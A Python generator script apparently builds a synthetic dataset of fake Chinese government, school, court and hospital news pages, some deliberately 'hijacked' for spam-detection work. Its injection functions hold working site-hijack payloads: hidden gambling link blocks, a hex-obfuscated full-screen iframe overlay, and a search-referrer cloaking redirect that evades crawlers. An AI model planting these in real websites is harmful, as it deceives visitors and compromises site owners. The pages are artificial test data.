"""Generate synthetic-v45: 40 pages (28 hijacked, 12 clean, 4 of those legit), 6 templates K1-K6,
4 sites x 5 pages + 20 single pages. Fixed seed; a re-run writes byte-identical files.

Usage: python3 make_set.py [OUTDIR]   (default: ../synthetic-v45 next to this folder)
Stdlib only.
"""
import json
import os
import random
import sys

SEED = 45045
R = random.Random(SEED)

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "..", "synthetic-v45")

SURN = list("甘黎邬蒲鄢巫柯阮晏滕翁祁宓尚詹储霍车邰甄隗荀")
GIVN = ["明远", "思琪", "立新", "晓岚", "振宇", "婉婷", "俊峰", "雅楠", "国栋", "丽萍", "文博", "海燕", "建勋",
        "玉洁", "子昂", "梦瑶", "德林", "春华", "嘉怡", "永强", "若溪", "凯文", "秀英", "志刚", "一鸣", "静怡"]


def person():
    return R.choice(SURN) + R.choice(GIVN)


def pick_date(y0=2023, y1=2025):
    y = R.randint(y0, y1)
    m = R.randint(1, 12)
    d = R.randint(1, 28)
    return y, m, d


# ----------------------------------------------------------------------------------------------
# article frames: (title, paragraphs); ctx keys: org, place, p1, p2, m, d, n1, n2, n3, partner
# ----------------------------------------------------------------------------------------------
GOV = [
    ("{org}召开森林防灭火工作部署会", [
        "{m}月{d}日，{org}召开森林防灭火工作部署会，分析当前森林防火形势，安排部署下一阶段重点工作。",
        "会议指出，进入防火紧要期以来，全{unit}共组织巡山护林人员{n1}名，设立临时检查卡点{n2}处，累计劝返违规用火{n3}人次。",
        "{p1}强调，各乡镇、各部门要压紧压实属地责任，严格野外火源管控，加强重点时段、重点部位巡查，确保不发生重大森林火灾。"]),
    ("{place}开展农村自建房安全隐患排查整治", [
        "近日，{place}住建、自然资源、应急管理等部门组成联合工作组，对辖区农村自建房开展安全隐患排查整治。",
        "工作组采取入户查看、询问了解等方式，重点排查用作经营、人员聚集的自建房，截至目前已排查房屋{n1}栋，发现并督促整改隐患{n2}处。",
        "下一步，{place}将建立排查整治台账，实行销号管理，对存在严重安全隐患的房屋一律停止使用，切实保障群众生命财产安全。"]),
    ("{org}举办政务服务“一网通办”业务培训班", [
        "{m}月{d}日，{org}举办政务服务“一网通办”业务培训班，各窗口单位业务骨干{n1}余人参加培训。",
        "培训围绕网上申报、电子证照调用、“好差评”数据处理等内容进行讲解，并现场演示了高频事项的办理流程。",
        "{p1}要求，各窗口要对照事项清单逐项梳理办事指南，推动更多事项“网上办、掌上办、就近办”，不断提升群众办事满意度。"]),
    ("{place}启动{n1}00亩高标准农田建设项目", [
        "{m}月{d}日，{place}{n1}00亩高标准农田建设项目正式开工，项目涉及{n2}个行政村。",
        "项目主要建设内容包括土地平整、灌溉排水、田间道路和农田防护等工程，计划于年底前完成主体工程建设。",
        "项目建成后，预计可新增和改善灌溉面积{n3}00亩，亩均粮食产能提高约百分之十，进一步夯实粮食安全基础。"]),
    ("{org}开展“书香机关”全民阅读活动", [
        "为推动全民阅读深入开展，{m}月{d}日，{org}组织干部职工开展“书香机关”读书分享活动。",
        "活动现场，{n1}名干部职工结合自身工作，分享了近期阅读的经典著作和业务书籍，交流读书心得。",
        "{p1}表示，要把读书学习作为一种工作责任和生活习惯，以学促干，不断提高履职尽责能力。"]),
    ("{place}召开优化营商环境工作推进会", [
        "{m}月{d}日，{place}召开优化营商环境工作推进会，通报前一阶段营商环境评价反馈问题整改情况。",
        "会议指出，今年以来全{unit}新登记经营主体{n1}户，企业开办时间压缩至1个工作日以内，涉企审批事项办理时限平均缩短{n2}%。",
        "{p1}要求，各部门要对标先进地区做法，聚焦企业反映强烈的堵点难点问题，逐项制定整改措施，确保按期整改到位。"]),
    ("{org}组织开展燃气安全专项检查", [
        "{m}月{d}日，{org}联合市场监管、消防救援等部门，对辖区餐饮场所和瓶装液化气供应站点开展燃气安全专项检查。",
        "检查组重点查看了燃气管道、报警装置、软管连接和气瓶存放等情况，共检查经营场所{n1}家，现场督促整改问题{n2}个。",
        "下一步，{org}将持续开展“回头看”，对拒不整改的经营单位依法依规严肃处理。"]),
    ("{place}举办退役军人专场招聘会", [
        "{m}月{d}日，{place}退役军人专场招聘会在文化广场举行，{n2}家企业提供就业岗位{n1}0余个。",
        "招聘会现场设置了政策咨询、创业指导和技能培训报名等服务台，工作人员为退役军人解读就业创业扶持政策。",
        "据统计，当天共有{n3}名退役军人与用人单位达成初步就业意向。"]),
    ("{org}开展城乡居民医保集中参保宣传", [
        "为提高城乡居民医保参保率，{m}月{d}日，{org}在集贸市场开展城乡居民医保集中参保宣传活动。",
        "工作人员通过发放宣传资料、现场讲解等方式，向群众介绍参保缴费渠道、待遇享受和异地就医备案等政策，共发放资料{n1}份。",
        "{p1}介绍，群众可以通过手机端、银行网点和村级服务站等多种渠道缴费，参保缴费截止前还将组织工作人员入户宣传。"]),
    ("{place}推进老旧小区改造项目建设", [
        "今年，{place}计划实施老旧小区改造项目{n1}个，涉及居民{n2}户，目前已有{n3}个项目进入施工阶段。",
        "改造内容包括雨污分流、外墙保温、加装电梯、停车位和充电设施建设等，各项目均在施工前征求了居民意见。",
        "{p1}表示，将加强施工现场管理和质量安全监督，最大限度减少施工对居民生活的影响。"]),
]

EDU = [
    ("{org}举行毕业生就业双选会", [
        "{m}月{d}日，{org}毕业生就业双选会在体育馆举行，{n1}家用人单位进校招聘，提供岗位{n2}个。",
        "双选会岗位涵盖智能制造、电子商务、现代物流、医疗护理等领域，多家企业负责人在现场与毕业生面对面交流。",
        "据统计，当天共有{n3}名毕业生与用人单位达成初步签约意向。"]),
    ("{org}开展消防应急疏散演练", [
        "为增强师生消防安全意识和自救逃生能力，{m}月{d}日，{org}开展消防应急疏散演练。",
        "随着警报声响起，各班学生在教师组织下用湿毛巾捂住口鼻、弯腰低姿，沿指定路线有序撤离到操场，全程用时{n1}秒。",
        "演练结束后，消防救援站工作人员现场讲解了灭火器的使用方法，{p1}对演练情况进行了点评。"]),
    ("{org}召开期中教学质量分析会", [
        "{m}月{d}日，{org}召开期中教学质量分析会，全体任课教师参加会议。",
        "会上，教务处负责人从成绩分布、学科均衡和学困生转化等方面对期中考试情况进行了分析，各年级组长作了交流发言。",
        "{p1}要求，各教研组要认真查找教学中存在的薄弱环节，优化课堂教学，做好分层辅导，切实提高教学质量。"]),
    ("{org}学生在省职业院校技能大赛中获佳绩", [
        "近日，{unit_full}职业院校技能大赛落下帷幕，{org}选派{n1}名学生参加{n2}个赛项的比赛。",
        "经过激烈角逐，{org}学生共获得一等奖{n3}项、二等奖和三等奖若干项，指导教师{p1}获评优秀指导教师。",
        "{org}将继续坚持以赛促教、以赛促学，推动技能大赛成果转化为教学资源。"]),
    ("{org}举办青年教师教学基本功比赛", [
        "为促进青年教师专业成长，{m}月{d}日，{org}举办青年教师教学基本功比赛，{n1}名青年教师参赛。",
        "比赛包括教学设计、课堂展示和教学反思三个环节，评委从教学目标、教学方法和课堂组织等方面进行评分。",
        "经评比，{p1}等{n2}名教师获得一等奖。"]),
    ("{org}开展心理健康教育主题月活动", [
        "{m}月以来，{org}开展心理健康教育主题月活动，通过心理讲座、团体辅导、心理剧展演等形式引导学生关注心理健康。",
        "活动期间，心理健康教育中心共开展团体辅导{n1}场，接待个体咨询{n2}人次。",
        "{p1}表示，将进一步完善心理健康教育工作体系，为学生健康成长营造良好环境。"]),
    ("{org}与{partner}签订校企合作协议", [
        "{m}月{d}日，{org}与{partner}校企合作签约仪式举行。",
        "根据协议，双方将在人才培养方案制定、实习实训基地建设、订单班培养等方面开展合作，{partner}每年将为学生提供实习岗位{n1}个。",
        "{p1}表示，此次合作是深化产教融合的具体举措，将有效提升学生的实践能力和就业竞争力。"]),
]

COURT = [
    ("{org}开展“法律进社区”普法宣传活动", [
        "{m}月{d}日，{org}干警走进社区开展“法律进社区”普法宣传活动。",
        "活动中，干警围绕婚姻家庭、民间借贷、养老诈骗等与群众生活密切相关的法律问题进行讲解，并现场解答群众咨询{n1}人次。",
        "{org}将持续开展普法宣传，引导群众依法维护自身合法权益。"]),
    ("{org}集中发放一批执行案款", [
        "{m}月{d}日，{org}举行执行案款集中发放仪式，为{n1}名申请执行人发放执行案款共计{n2}万元。",
        "据介绍，今年以来，{org}通过网络查控、失信惩戒和财产处置等措施，执结了一批涉及劳动报酬、人身损害赔偿的案件。",
        "{p1}表示，将继续加大执行力度，切实维护胜诉当事人的合法权益。"]),
]

HOSP = [
    ("{org}开展“义诊进乡村”活动", [
        "{m}月{d}日，{org}组织内科、外科、眼科等科室专家到{place}开展“义诊进乡村”活动。",
        "专家们为群众测量血压血糖、提供健康咨询，并针对慢性病用药和日常保健进行指导，共服务群众{n1}人次。",
        "{p1}表示，医院将定期开展义诊活动，把优质医疗服务送到群众家门口。"]),
    ("{org}召开医疗质量安全管理会议", [
        "{m}月{d}日，{org}召开医疗质量安全管理会议，各临床医技科室负责人参加会议。",
        "会议通报了近期病历质量检查和核心制度落实情况，共抽查运行病历{n1}份，指出存在的问题并提出整改要求。",
        "{p1}强调，要牢固树立质量安全意识，严格落实医疗质量安全核心制度，持续改进医疗服务质量。"]),
]

MZ = [
    ("{org}开展养老机构安全隐患排查整治", [
        "{m}月{d}日起，{org}组织工作组对全县{n2}家养老机构开展安全隐患排查整治。",
        "工作组重点检查了消防设施、食品安全、特种设备和值班值守等情况，发现并督促整改问题{n1}处。",
        "{p1}要求，各养老机构要落实安全管理主体责任，健全隐患排查台账，确保老年人生命财产安全。"]),
    ("{org}召开基层社会救助工作推进会", [
        "{m}月{d}日，{org}召开基层社会救助工作推进会，各乡镇民政办负责人参加会议。",
        "会议通报了低保、特困供养和临时救助政策落实情况，截至目前全县共发放各类救助资金{n1}万元。",
        "{p1}强调，要加强动态监测，做到应保尽保、应退尽退，兜住兜牢基本民生底线。"]),
]

LEGIT = {
    "police": ("{place}公安局破获一起利用网络开设赌场案", [
        "近日，{place}公安局成功破获一起利用网络开设赌场案，抓获犯罪嫌疑人{n1}名，冻结涉案资金{n2}万元。",
        "经查，犯罪嫌疑人通过境外聊天软件建立群组，组织参赌人员进行网络赌博并从中抽头渔利，涉案流水较大。",
        "警方提醒，网络赌博违法犯罪，参与赌博极易导致倾家荡产，广大群众要自觉远离赌博，发现涉赌线索可及时向公安机关举报。"]),
    "welfare": ("{org}关于{y}年度福利彩票公益金使用情况的公示", [
        "根据《彩票公益金管理办法》有关规定，现将{org}{y}年度福利彩票公益金使用情况公示如下。",
        "{y}年度，{org}使用福利彩票公益金共计{n1}万元，主要用于养老服务设施建设、困难儿童救助和残疾人康复等社会福利项目。",
        "其中，支持农村互助养老服务设施建设{n2}个，资助困境儿童{n3}名。公示期间如有意见，请与{org}社会事务股联系。"]),
    "sports": ("{org}开展“责任彩票”进网点宣传活动", [
        "为倡导理性购彩，{m}月{d}日，{org}联合体育彩票管理机构开展“责任彩票”进网点宣传活动。",
        "工作人员走访了{n1}个体育彩票实体销售网点，检查“未成年人不得购买彩票”标识张贴情况，并向销售人员讲解不得向未成年人售彩、不得赊销等规定。",
        "{org}提醒，购买体育彩票应量力而行、理性投注，彩票公益金用于全民健身和体育事业发展。"]),
    "court": ("{org}公开宣判一起开设赌场案", [
        "{m}月{d}日，{org}公开开庭审理并当庭宣判一起开设赌场案，被告人{p2}等{n1}人分别被判处有期徒刑并处罚金。",
        "法院经审理查明，被告人{p2}伙同他人在出租屋内设置赌博机招揽他人赌博，非法获利数额较大，其行为已构成开设赌场罪。",
        "法院提醒，赌博危害家庭和社会，广大群众应当自觉抵制赌博行为，远离违法犯罪。"]),
}


def fill(frame, ctx):
    t, ps = frame
    return t.format(**ctx), [p.format(**ctx) for p in ps]


def make_ctx(org, place, unit="县", unit_full="全省"):
    y, m, d = pick_date()
    return dict(org=org, place=place, unit=unit, unit_full=unit_full, p1=person(), p2=person(), y=y, m=m, d=d,
                n1=R.randint(12, 96), n2=R.randint(3, 60), n3=R.randint(4, 40),
                partner=R.choice(["苍鹭智能装备有限公司", "泓远物流集团", "青禾电子科技有限公司"]))


# ----------------------------------------------------------------------------------------------
# templates. Each gets P (page dict) and S (injection slots) and returns the html text.
# ----------------------------------------------------------------------------------------------
def g(S, k):
    return S.get(k, "")


def paras_html(P, S, tag="p", cls=""):
    ps = list(P["paras"])
    out = []
    c = f' class="{cls}"' if cls else ""
    for i, p in enumerate(ps):
        if i == 0 and S.get("lead"):
            p = S["lead"] + p
        out.append(f"<{tag}{c}>{p}</{tag}>")
        if i == 0 and S.get("body_after1"):
            out.append(S["body_after1"])
        if i == len(ps) // 2 and S.get("body_mid"):
            out.append(S["body_mid"])
    body = g(S, "body_top") + "\n".join(out) + g(S, "body_end")
    return body


def title_tag(P, S, sep="-"):
    return S.get("title", f"{P['title']}{sep}{P['site_name']}")


def k1(P, S):
    """Zikula-style county portal (utf-8): z-* classes, theme blocks, one-line byline with 浏览次数."""
    y, m, d = P["date"]
    by = [f"发布时间：{y}-{m:02d}-{d:02d} {P['hm']}"]
    if P["source_shown"]:
        by.append(f"来源：{P['source_shown']}")
    if P["author_shown"]:
        by.append(f"作者：{P['author_shown']}")
    by.append(f"浏览次数：<span class=\"z-hitcount\">{P['hits']}</span>")
    nav = "".join(f'<li class="z-ml-item"><a href="/{a}/">{b}</a></li>' for a, b in
                  [("", "首页"), ("zwgk", "政务公开"), ("zwdt", "政务动态"), ("bsfw", "办事服务"), ("hdjl", "互动交流"), ("zjxq", "走进" + P["place"])])
    return f"""<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<title>{title_tag(P, S, ' - ')}</title>
<meta name="generator" content="Zikula Application Framework">
<link rel="stylesheet" href="/themes/Andreas08/style/style.css" type="text/css">
{g(S, 'head')}
</head>
<body class="z-body">
{g(S, 'top')}
<div id="theme_page_container">
<div id="theme_header"><h1 class="z-sitename"><a href="/">{S.get('sitename', P['site_name'])}</a></h1>
<p class="z-slogan">{P['slogan']}</p></div>
<div id="theme_navigation"><ul class="z-menulinks">{nav}</ul></div>
{g(S, 'nav_after')}
<div id="theme_content"><div class="z-crumbs">当前位置：<a href="/">首页</a> &gt; <a href="/zwdt/">政务动态</a> &gt; 正文</div>
<div class="z-module-News z-article">
<h2 class="z-article-title">{P['title']}</h2>
<div class="z-sub z-byline">{'　'.join(by)}</div>
<div class="z-article-body">
{paras_html(P, S)}
</div>
{g(S, 'img_credit')}
<div class="z-article-tools"><a href="javascript:window.print()">【打印本页】</a> <a href="javascript:window.close()">【关闭窗口】</a></div>
{g(S, 'related')}
</div></div>
<div id="theme_footer">
{g(S, 'links')}
<p>主办单位：{P['site_name']}办公室　承办：{P['place']}大数据中心</p>
<p>网站标识码：{P['wzbs']}　{P['icp']}　{P['gongan']}</p>
{g(S, 'footer')}
</div>
</div>
{g(S, 'end')}
</body>
</html>
"""


def k2(P, S):
    """ASPCMS-style school site (GBK): table layout, font tags, single-cell byline with 阅读 count."""
    y, m, d = P["date"]
    by = []
    if P["author_shown"]:
        by.append(f"作者：{P['author_shown']}")
    if P["source_shown"]:
        by.append(f"来源：{P['source_shown']}")
    by.append(f"更新时间：{y}/{m}/{d}")
    by.append(f"阅读：{P['hits']}次")
    nav = "".join(f'<td class="menu_td"><a href="/{a}" class="menu">{b}</a></td>' for a, b in
                  [("", "网站首页"), ("about/", "学校概况"), ("news/", "校园新闻"), ("jyjx/", "教育教学"), ("dyxl/", "德育天地"), ("ddjs/", "党的建设"), ("contact/", "联系我们")])
    return f"""<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=GBK">
<title>{title_tag(P, S, '_')}</title>
<meta name="keywords" content="{P['site_name']},校园新闻">
{g(S, 'head')}
<link href="/Templates/cn/css/aspcms.css" rel="stylesheet" type="text/css">
</head>
<body leftmargin="0" topmargin="0">
{g(S, 'top')}
<table width="980" border="0" align="center" cellpadding="0" cellspacing="0" class="top_tb">
<tr><td height="96" class="logo_td"><font class="school_name">{S.get('sitename', P['site_name'])}</font><br><font class="school_en">{P['en']}</font></td></tr>
</table>
<table width="980" border="0" align="center" cellpadding="0" cellspacing="0" class="menu_tb"><tr>{nav}</tr></table>
{g(S, 'nav_after')}
<table width="980" border="0" align="center" cellpadding="0" cellspacing="0">
<tr><td width="220" valign="top" class="left_td"><div class="left_title">校园新闻</div>
<ul class="left_list"><li><a href="/news/xxyw/">学校要闻</a></li><li><a href="/news/tzgg/">通知公告</a></li><li><a href="/news/jsfc/">教师风采</a></li></ul></td>
<td width="760" valign="top" class="right_td">
<div class="position">您现在的位置：<a href="/">首页</a> &gt;&gt; <a href="/news/">校园新闻</a></div>
<table width="96%" border="0" align="center" cellpadding="0" cellspacing="0">
<tr><td align="center" class="art_title"><strong>{P['title']}</strong></td></tr>
<tr><td align="center" class="art_info">{'&nbsp;&nbsp;'.join(by)}</td></tr>
<tr><td class="art_content" id="fontzoom">
{paras_html(P, S)}
{g(S, 'img_credit')}
</td></tr>
<tr><td class="art_page">上一篇：<a href="/news/{P['prev']}.html">{P['prev_title']}</a></td></tr>
</table>
{g(S, 'related')}
</td></tr></table>
<table width="980" border="0" align="center" cellpadding="0" cellspacing="0" class="foot_tb">
<tr><td align="center">{g(S, 'links')}
版权所有：{P['site_name']}&nbsp;&nbsp;地址：{P['addr']}&nbsp;&nbsp;{P['icp']}<br>{g(S, 'footer')}</td></tr>
</table>
{g(S, 'end')}
</body>
</html>
"""


def k3(P, S):
    """KingCMS-style 信息公开 page (GB18030): metadata table (索引号/发布机构/生成日期/文号/信息来源/名称) above body."""
    y, m, d = P["date"]
    src = P["source_shown"] or ""
    rows = [("索&nbsp;引&nbsp;号", P["index"], "信息分类", P["cat"]),
            ("发布机构", P["publisher"], "生成日期", f"{y}年{m:02d}月{d:02d}日"),
            ("文&nbsp;&nbsp;&nbsp;&nbsp;号", P["wenhao"], "信息来源", src),
            ]
    tb = "\n".join(f'<tr><th class="k_th">{a}</th><td class="k_td">{b}</td><th class="k_th">{c}</th><td class="k_td">{e}</td></tr>'
                   for a, b, c, e in rows)
    tb += f'\n<tr><th class="k_th">名&nbsp;&nbsp;&nbsp;&nbsp;称</th><td class="k_td" colspan="3">{P["title"]}</td></tr>'
    auth = f'<div class="k_author">（发布人：{P["author_shown"]}）</div>' if P["author_shown"] else ""
    return f"""<!DOCTYPE html>
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=GB18030">
<title>{title_tag(P, S, '--')}</title>
<meta name="Generator" content="KingCMS">
{g(S, 'head')}
<link rel="stylesheet" type="text/css" href="/king/style/xxgk.css">
</head>
<body>
{g(S, 'top')}
<div class="k_wrap">
<div class="k_head"><div class="k_logo">{S.get('sitename', P['site_name'])}</div><div class="k_sub">政府信息公开</div></div>
<div class="k_menu"><a href="/">首页</a><a href="/xxgk/zn/">信息公开指南</a><a href="/xxgk/zd/">信息公开制度</a><a href="/xxgk/ml/">法定主动公开内容</a><a href="/xxgk/nb/">信息公开年报</a><a href="/xxgk/ysq/">依申请公开</a></div>
{g(S, 'nav_after')}
<div class="k_main">
<table class="k_meta" cellspacing="0" cellpadding="0">
{tb}
</table>
<div class="k_tit">{P['title']}</div>
<div class="k_con">
{paras_html(P, S)}
{g(S, 'img_credit')}
</div>
{auth}
<div class="k_inscribe">{P['publisher']}<br>{y}年{m}月{d}日</div>
{g(S, 'related')}
</div>
<div class="k_foot">{g(S, 'links')}
<p>{P['site_name']}　版权所有　联系电话：{P['tel']}</p><p>{P['icp']}　网站标识码：{P['wzbs']}</p>
{g(S, 'footer')}</div>
</div>
{g(S, 'end')}
</body>
</html>
"""


def k4(P, S):
    """PHP-Fusion-style college department site (utf-8): panels, news-info line, 撰稿/审核 after the body."""
    y, m, d = P["date"]
    info = [f'<span class="news-date">{y}年{m}月{d}日</span>']
    if P["source_shown"]:
        info.append(f'<span class="news-cat">来源：{P["source_shown"]}</span>')
    info.append(f'<span class="news-reads">{P["hits"]} 次阅读</span>')
    credit = ""
    if P["author_shown"]:
        credit = f'<p class="news-credit">（撰稿：{P["author_shown"]}　审核：{P["checker"]}）</p>'
    return f"""<!DOCTYPE html>
<html lang="zh">
<head>
<meta charset="utf-8">
<title>{title_tag(P, S, ' - ')}</title>
<meta name="description" content="{P['site_name']}">
<link rel="stylesheet" href="/themes/Septenary/styles.css">
{g(S, 'head')}
</head>
<body>
{g(S, 'top')}
<div id="main" class="fusion-main">
<header id="fusion-header"><div class="banner"><span class="site-title">{S.get('sitename', P['site_name'])}</span><span class="site-parent">{P['parent']}</span></div>
<nav class="sublinks"><a href="/index.php">首页</a> · <a href="/news.php">系部动态</a> · <a href="/articles.php?cat=2">教学工作</a> · <a href="/articles.php?cat=3">学生工作</a> · <a href="/articles.php?cat=4">专业建设</a></nav></header>
{g(S, 'nav_after')}
<div class="side-border-left"><div class="panel"><div class="scapmain">系部导航</div><div class="side-body"><a href="/about.php">系部简介</a><br><a href="/teachers.php">师资队伍</a></div></div></div>
<div class="main-bg"><article class="tbl-border news-item">
<div class="capmain"><h3 class="news-title">{P['title']}</h3></div>
<div class="news-info">{' · '.join(info)}</div>
<div class="main-body news-body">
{paras_html(P, S)}
{g(S, 'img_credit')}
{credit}
</div>
{g(S, 'related')}
</article></div>
<footer id="fusion-footer">{g(S, 'links')}
<div class="copyright">Copyright &copy; {P['parent']} {P['site_name']}　{P['icp']}</div>
<div class="footer-note">Powered by PHP-Fusion</div>
{g(S, 'footer')}</footer>
</div>
{g(S, 'end')}
</body>
</html>
"""


def k5(P, S):
    """Geeklog-style court/hospital news (GBK): story blocks, storybyline with 日期/来源/作者 and hits."""
    y, m, d = P["date"]
    by = [f"日期：{y}-{m:02d}-{d:02d}"]
    if P["source_shown"]:
        by.append(f"来源：{P['source_shown']}")
    if P["author_shown"]:
        by.append(f"作者：{P['author_shown']}")
    by.append(f"点击数：{P['hits']}")
    return f"""<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN">
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=GBK">
<title>{title_tag(P, S, ' - ')}</title>
<link rel="stylesheet" type="text/css" href="/layout/professional/style.css">
{g(S, 'head')}
</head>
<body dir="ltr">
{g(S, 'top')}
<div id="gl_container">
<div id="gl_header"><div class="gl_sitename">{S.get('sitename', P['site_name'])}</div><div class="gl_slogan">{P['slogan']}</div></div>
<div id="gl_menu"><ul><li><a href="/">首页</a></li><li><a href="/topic/news">新闻动态</a></li><li><a href="/topic/notice">通知公告</a></li><li><a href="/topic/service">办事指南</a></li><li><a href="/staticpages/about">关于我们</a></li></ul></div>
{g(S, 'nav_after')}
<div id="gl_center"><div class="storytext">
<h2 class="storytitle">{P['title']}</h2>
<div class="storybyline">{'&nbsp;|&nbsp;'.join(by)}</div>
<div class="story_introtext">
{paras_html(P, S)}
</div>
{g(S, 'img_credit')}
<div class="story_icons"><a href="/article.php?story={P['story']}&amp;mode=print">打印</a> <a href="/profiles.php?what=emailstory">发送给朋友</a></div>
{g(S, 'related')}
</div></div>
<div id="gl_footer">{g(S, 'links')}
<p>{P['site_name']}&nbsp;&nbsp;地址：{P['addr']}&nbsp;&nbsp;{P['icp']}</p>
{g(S, 'footer')}
</div>
</div>
{g(S, 'end')}
</body>
</html>
"""


def k6(P, S):
    """WebsiteBaker-style bureau/township site (utf-8): mod_news, 信息来源/发布日期/字号 bar, 作者/责任编辑 line."""
    y, m, d = P["date"]
    bar = []
    if P["source_shown"]:
        bar.append(f"信息来源：{P['source_shown']}")
    bar.append(f"发布日期：{y}年{m:02d}月{d:02d}日")
    bar.append('字号：[<a href="#" class="fs-l">大</a> <a href="#" class="fs-m">中</a> <a href="#" class="fs-s">小</a>]')
    ed = f'<div class="mod_news_editor">作者：{P["author_shown"]}　责任编辑：{P["checker"]}</div>' if P["author_shown"] else ""
    return f"""<!DOCTYPE html>
<html lang="zh-cn">
<head>
<meta http-equiv="content-type" content="text/html; charset=utf-8">
<title>{title_tag(P, S, ' | ')}</title>
<meta name="description" content="{P['slogan']}">
<link href="/templates/round/template.css" rel="stylesheet" type="text/css">
{g(S, 'head')}
</head>
<body>
{g(S, 'top')}
<div class="wb-page">
<div class="wb-banner"><a href="/" class="wb-logo">{S.get('sitename', P['site_name'])}</a></div>
<ul class="wb-menu menu-top"><li class="menu-current"><a href="/pages/news.php">工作动态</a></li><li><a href="/pages/zcwj.php">政策文件</a></li><li><a href="/pages/tzgg.php">通知公告</a></li><li><a href="/pages/bmjj.php">部门简介</a></li></ul>
{g(S, 'nav_after')}
<div class="wb-content"><div class="mod_news_post">
<h1 class="mod_news_title">{P['title']}</h1>
<div class="mod_news_bar">{'　'.join(bar)}</div>
<div class="mod_news_long">
{paras_html(P, S)}
{g(S, 'img_credit')}
</div>
{ed}
<div class="mod_news_back"><a href="/pages/news.php">&laquo; 返回列表</a></div>
{g(S, 'related')}
</div></div>
<div class="wb-footer">{g(S, 'links')}
<p>{P['site_name']}主办　{P['icp']}　网站标识码：{P['wzbs']}</p>
{g(S, 'footer')}</div>
</div>
{g(S, 'end')}
</body>
</html>
"""


TEMPLATES = {"K1": (k1, "utf-8"), "K2": (k2, "GBK"), "K3": (k3, "GB18030"), "K4": (k4, "utf-8"),
             "K5": (k5, "GBK"), "K6": (k6, "utf-8")}


# ----------------------------------------------------------------------------------------------
# injections (invented brands); each returns (slots, spam_strings, marker-or-None)
# ----------------------------------------------------------------------------------------------
def hexify(s):
    return "".join("\\x%02x" % b for b in s.encode("utf-8"))


def inj_site_a():
    # off-screen fixed block in the footer: sold links of one casino brand
    a = ["曜鲲体育官网", "曜鲲体育app下载", "曜鲲电子游艺平台"]
    h = ('<div id="zk_ftlk" style="position:fixed;top:-1200px;left:0;width:1px;overflow:hidden">'
         + "".join(f'<a href="https://www.yaokun{i}77.vip/?c=zl" title="{t}">{t}</a>' for i, t in enumerate(a))
         + "</div>")
    return {"footer": h}, a, None, ["offscreen-link-block-footer"]


def inj_site_b():
    a = ["玺澜国际娱乐", "玺澜棋牌平台注册送58元"]
    lines = ['<span class=\\"xl_nt\\" style=\\"display:none\\">'] + \
        [f'<a href=\\"https://xl{n}.xilanbet.cc/\\" target=\\"_blank\\">{t}</a>' for n, t in zip((588, 589), a)] + ["</span>"]
    js = "<script language=\"javascript\">\n" + "\n".join(f'document.writeln("{x}");' for x in lines) + "\n</script>"
    return {"nav_after": js}, a, None, ["document-writeln-hidden-links"]


def inj_site_c(real_title):
    a = ["鎏沅棋牌官方版下载", "鎏沅棋牌"]
    return {"title": f"鎏沅棋牌_鎏沅棋牌官方版下载_{real_title}"}, a, None, ["keyword-stuffed-title"]


def inj_site_d():
    a = ["深夜蜜桃私享直播间免费看"]
    h = ('<div class="notice-strip" style="text-align:center;background:#fff"><a href="https://mt.sy-zb520.top/" rel="nofollow">'
         f"{a[0]}</a></div>")
    return {"top": h}, a, None, ["porn-keyword-line-top"]


def single_inj(form, P):
    """Injection for a single page; returns (slots, spam, marker, forms, drop) where drop names a truth field the
    injection replaces (source/author shown as the brand)."""
    t = P["title"]
    if form == "keyword-stuffed-title":
        a = ["霆珀电竞竞猜", "霆珀电竞官网入口"]
        return {"title": f"{a[0]}-{a[1]}-{t}"}, a, None, [form], None
    if form == "brand-as-site-name":
        a = ["晟鹭娱乐城"]
        return {"sitename": f"{a[0]}（{P['site_name']}）", "title": f"{t} | {a[0]}"}, a, None, [form], None
    if form == "brand-as-author":
        a = ["琥铂体育官方直营"]
        return {}, a, None, [form], ("author", a[0])
    if form == "brand-as-source":
        a = ["澜琊真人视讯"]
        return {}, a, None, [form], ("source", a[0])
    if form == "spam-line-body-top":
        a = ["铂珑国际首存即送百分百彩金，登录bolong-555.com"]
        return {"body_top": f"<p>{a[0]}</p>\n"}, a, None, [form], None
    if form == "spam-line-body-mid":
        a = ["骁澈电竞：英雄联盟赛事在线下注，注册领88"]
        return {"body_mid": f'<p style="color:#333">{a[0]}</p>'}, a, None, [form], None
    if form == "footer-credit-brand":
        a = ["璟霄体育"]
        return {"footer": f'<p class="tech">技术支持：<a href="https://www.jingxiao-ty.com/">{a[0]}</a></p>'}, a, None, [form], None
    if form == "hex-docwrite-iframe":
        payload = ('<IFrame src="https://h5.jinghao-33.top/?fr=wb" style="position:fixed;left:0;top:0;width:100%;'
                   'height:100%;border:0;z-index:2147483000;background:#fff"></IFrame>')
        code = 'var _q3="' + hexify(payload) + '";(function(d){if(!d.getElementById("wb_qx")){d.write(_q3)}})(document);'
        return {"end": f"<script type=\"text/javascript\">{code}</script>"}, [], 'var _q3="\\x3c\\x49\\x46\\x72', [form], None
    if form == "referrer-cloak-redirect":
        code = ("(function(){var rf=document.referrer.toLowerCase(),ua=navigator.userAgent;"
                "var se=['baidu.','sogou.','so.com','sm.cn','toutiao.'];"
                "for(var i=0;i<se.length;i++){if(rf.indexOf(se[i])>-1&&!/spider|bot|slurp/i.test(ua)){"
                "setTimeout(function(){top.location.href='https://m.yunjia'+'668.top/p/'+Math.floor(Math.random()*90)},20);break;}}})();")
        return {"head": f"<script>{code}</script>"}, [], "top.location.href='https://m.yunjia'+'668.top/p/'", [form], None
    if form == "text-indent-link-block":
        a = ["赫岚棋牌", "赫岚棋牌游戏大厅", "赫岚捕鱼"]
        h = ('<p style="text-indent:-6000px;height:0;margin:0;overflow:hidden">'
             + "".join(f'<a href="http://hl{i}.helanqp.net/">{x}</a>' for i, x in enumerate(a)) + "</p>")
        return {"nav_after": h}, a, None, [form], None
    if form == "outlet-mark-brand":
        a = ["【翎沣体育讯】"]
        return {"lead": a[0]}, a, None, [form], None
    if form == "image-credit-brand":
        a = ["湛珂娱乐"]
        return {"img_credit": f'<p class="img-note" style="text-align:center">（图片提供：{a[0]}）</p>'}, a, None, [form], None
